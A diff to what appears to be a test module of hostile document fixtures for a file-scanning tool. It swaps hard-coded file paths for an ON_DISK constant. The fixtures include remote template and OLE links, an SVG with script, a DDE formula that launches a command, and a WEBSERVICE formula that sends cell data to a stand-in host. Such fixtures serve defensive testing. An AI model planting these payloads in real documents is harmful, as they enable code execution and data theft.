@@ -6,6 +6,7 @@ from pypdf import PdfReader, PdfWriter
 from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject
 
 from tests import made_files as made
+from tests.conftest import ON_DISK
 
 _TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
 
@@ -81,7 +82,9 @@ PAPER = made.pdf("Thong bao")
 SVG = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
 ACTING: dict[str, tuple[str, bytes]] = {
     "a template from elsewhere": text("attachedTemplate", "https://xau.example/a.dotm", part="settings"),
-    "a template of somebody's machine": text("attachedTemplate", "file:///C:/Users/hoa/Normal.dotm", part="settings"),
+    "a template of somebody's machine": text(
+        "attachedTemplate", f"{ON_DISK}/C:/may-cua-hoa/Normal.dotm", part="settings"
+    ),
     "a picture from elsewhere": text("image", "https://xau.example/dem.png"),
     "an object from elsewhere": text("oleObject", "mhtml:https://xau.example/x!x-usc:https://xau.example"),
     "a frame": text("frame", "https://xau.example/khung.html"),
@@ -94,7 +97,7 @@ ACTING: dict[str, tuple[str, bytes]] = {
     "a field that fetches a picture": field('INCLUDEPICTURE "https://xau.example/a.png"'),
     "a formula that fetches": formula("WEBSERVICE(&quot;https://xau.example/?q=&quot;&amp;A1)"),
     "a formula that calls": formula("cmd|&apos;/C calc&apos;!A0"),
-    "a formula that leads to a program": formula("HYPERLINK(&quot;file:///c:/a.exe&quot;,&quot;Xem&quot;)"),
+    "a formula that leads to a program": formula(f"HYPERLINK(&quot;{ON_DISK}/c:/a.exe&quot;,&quot;Xem&quot;)"),
     "a name that starts by itself": formula("Auto_Open", "xl/workbook.xml", "<definedName name='x'>{}</definedName>"),
     "data from elsewhere": ("xlsx", made.packed({**made.unpacked(made.xlsx([["a"]])), "xl/connections.xml": "<x/>"})),
     "a section of another file": open_text('<text:section-source xlink:href="https://xau.example/a.odt"/>'),
